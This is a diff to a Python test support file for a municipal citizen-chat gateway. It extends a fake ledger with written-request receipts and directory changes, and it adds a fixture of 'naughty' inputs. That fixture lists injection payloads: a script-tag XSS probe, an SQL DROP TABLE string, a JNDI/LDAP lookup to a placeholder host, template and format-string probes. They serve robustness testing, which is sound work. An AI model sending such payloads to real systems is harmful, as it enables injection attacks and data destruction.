@@ -17,16 +17,19 @@ from gateway.app import assemble
 from gateway.settings import GatewaySettings
 from services.bus import Delivery, Push, Subscription, decode
 from services.contracts import (
+    AskWritten,
     Author,
     Closed,
     CommandDone,
     Department,
+    DirectoryChanged,
     DirectoryRead,
     Envelope,
     Event,
     EventCommitted,
     Joined,
     Leave,
+    MadeWritten,
     Messaged,
     OpenConversation,
     Opened,
@@ -34,6 +37,8 @@ from services.contracts import (
     RangeRead,
     ReadDirectory,
     ReadRange,
+    ReadReceipt,
+    ReceiptRead,
     Refused,
     Summary,
     SummaryChanged,
@@ -62,7 +67,16 @@ DIRECTORY = TenantDirectory(
     first_line="servicetorget",
     origins=("https://www.sarpsborg.example",),
     departments=(Department(id="servicetorget", name={"nb": "Servicetorget"}),),
-    topics=(Topic(id="barnehage", department="servicetorget", name={"nb": "Barnehage"}),),
+    topics=(
+        Topic(id="barnehage", department="servicetorget", name={"nb": "Barnehage"}),
+        Topic(
+            id="vann",
+            department="servicetorget",
+            name={"nb": "Vann og avløp"},
+            words=("springen", "brunt vann"),
+        ),
+    ),
+    danger_words=("rasfare ved huset",),
 )
 
 
@@ -75,6 +89,7 @@ class Conversation:
     version: int = 0
     state: str = "waiting"
     owner: str | None = None
+    asked: AskWritten | None = None
 
     def summary(self) -> Summary:
         return Summary(
@@ -88,6 +103,9 @@ class Conversation:
             opened_at=NOW,
             entered_at=NOW,
             last_seq={"dialogue": len(self.events)},
+            due_at=DUE if self.asked else None,
+            receipt=RECEIPT if self.asked else None,
+            answer_by=self.asked.answer_by if self.asked else None,
         )
 
 
@@ -101,6 +119,7 @@ class FakeLedger:
         self.queries: list[Envelope] = []
         self.raw: list[bytes] = []
         self.refuse_with: str | None = None
+        self.directory = DIRECTORY
         self.arrived = asyncio.Condition()
         self._tasks = Tasks()
         queues = (*topology.COMMANDS, *topology.QUERIES)
@@ -112,7 +131,7 @@ class FakeLedger:
     async def _handle(self, delivery: Delivery) -> None:
         self.raw.append(delivery.body)
         envelope = decode(delivery.body, delivery.vouched)
-        if isinstance(envelope.body, ReadRange | ReadDirectory):
+        if isinstance(envelope.body, ReadRange | ReadDirectory | ReadReceipt):
             self.queries.append(envelope)
             await self._answer(envelope)
         else:
@@ -125,11 +144,14 @@ class FakeLedger:
     async def _answer(self, asked: Envelope) -> None:
         query = asked.body
         if isinstance(query, ReadDirectory):
-            await self._reply(asked, DirectoryRead(directories=(DIRECTORY,)))
+            await self._reply(asked, DirectoryRead(directories=(self.directory,)))
+            return
+        if isinstance(query, ReadReceipt):
+            await self._reply(asked, self._receipt(asked.tenant, query.receipt) or _none(asked))
             return
         found = self.conversations.get(query.conversation)
         if found is None or (found.citizen, found.tenant) != (asked.sender, asked.tenant):
-            await self._reply(asked, Refused(about=asked.id, code="not_found"))
+            await self._reply(asked, _none(asked))
             return
         events = [e for e in found.events if e.seq > query.after]
         read = RangeRead(
@@ -141,6 +163,19 @@ class FakeLedger:
             summary=found.summary(),
         )
         await self._reply(asked, read)
+
+    def _receipt(self, tenant: str, receipt: str) -> ReceiptRead | None:
+        for known in self.conversations.values():
+            if known.asked and (known.tenant, RECEIPT) == (tenant, receipt):
+                return ReceiptRead(conversation=known.id, citizen=known.citizen)
+        return None
+
+    async def change_directory(self, **changes: Any) -> None:
+        version = self.directory.version + 1
+        self.directory = self.directory.evolve(version=version, **changes)
+        body = DirectoryChanged(directory=self.directory)
+        topic = topology.directory_topic()
+        await self.bus.push(Push("gateway", topic, self._wrap(self.directory.tenant, body)))
 
     async def _obey(self, asked: Envelope) -> None:
         body = asked.body
@@ -160,6 +195,11 @@ class FakeLedger:
                 what = Opened(topic=body.topic, department="servicetorget", language="nb")
             case PostMessage():
                 what = Messaged(text=body.text, masked=body.masked)
+            case AskWritten():
+                known.asked, known.state = body, "written"
+                what = MadeWritten(
+                    due_at=DUE, receipt=RECEIPT, answer_by=body.answer_by, reason="citizen_asked"
+                )
             case Leave():
                 what = Closed(reason=body.reason)
                 known.state = "closed"
@@ -232,6 +272,14 @@ class FakeLedger:
         return conversation
 
 
+DUE = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
+RECEIPT = "SA-0123-4567"
+
+
+def _none(asked: Envelope) -> Refused:
+    return Refused(about=asked.id, code="not_found")
+
+
 AGENT = Author(kind="agent", id="kari", name="Kari N.", department="servicetorget")
 
 
@@ -258,10 +306,10 @@ class Client:
         await self.say("hello", **{"tenant": "sarpsborg", "secret": secret, **fields})
         return await self.until("welcome")
 
-    async def open(self, conversation: UUID | None = None) -> UUID:
+    async def open(self, conversation: UUID | None = None, **fields: Any) -> UUID:
         conversation = conversation or uuid4()
         action = str(uuid4())
-        await self.say("open", id=action, conversation=str(conversation))
+        await self.say("open", id=action, conversation=str(conversation), **fields)
         await self.until("status")
         return conversation
 
@@ -309,6 +357,27 @@ def settings(**changes: Any) -> GatewaySettings:
         "transcript_url": "http://transcript.example",
     }
     return GatewaySettings(**(values | changes))
+
+
+NAUGHTY = (
+    "<script>alert(1)</script>",
+    "'; DROP TABLE users; --",
+    "\u202eabc\u202c\u2066",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
+    "👩‍👩‍👧‍👦🏳️‍⚧️ 🇳🇴",
+    "\u0001\u001f\u007f\u0085\u2028\ufeff.",
+    "﷽ ﷺ ಠ_ಠ",
+    "${jndi:ldap://x.example/a} {{7*7}} %s%n",
+    "NaN null undefined -1e309 0x0",
+    "a" * 8_192,
+    "! ~ = | # ? NAME: a|b",
+)
+
+
+@pytest.fixture(params=NAUGHTY, ids=range(len(NAUGHTY)))
+def naughty(request):
+    """A text that programs stumble on."""
+    return request.param
 
 
 @pytest.fixture
